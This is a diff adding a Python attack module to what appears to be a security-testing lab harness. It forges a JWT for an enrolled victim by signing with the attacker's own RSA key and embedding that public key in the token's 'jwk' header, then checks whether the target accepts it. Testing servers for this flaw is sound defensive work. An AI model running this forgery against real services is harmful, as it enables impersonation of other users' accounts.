@@ -1,0 +1,23 @@
+"""Bring your own key in the token.
+
+Exploits a server that checks a signature with the `jwk` of the header: it proves only that
+the attacker has the attacker's key.
+Source: RFC 8725, section 3.8 Validate Issuer and Subject (whose key it is),
+https://www.rfc-editor.org/rfc/rfc8725#section-3.8
+"""
+
+from jose import jwk, jws
+
+from attacks.forge import claims_about, new_rsa_key
+from attacks.lab import Outcome, Target, attack, judge
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Sign with an own key, and put its public half into the header."""
+    victim = target.enrol()
+    target.token_of(victim)
+    key = new_rsa_key()
+    header = {"jwk": jwk.construct(key, "RS256").public_key().to_dict()}
+    token = jws.sign(claims_about(victim.username), key, header, "RS256")
+    return judge({"own key in jwk": target.read(token)})
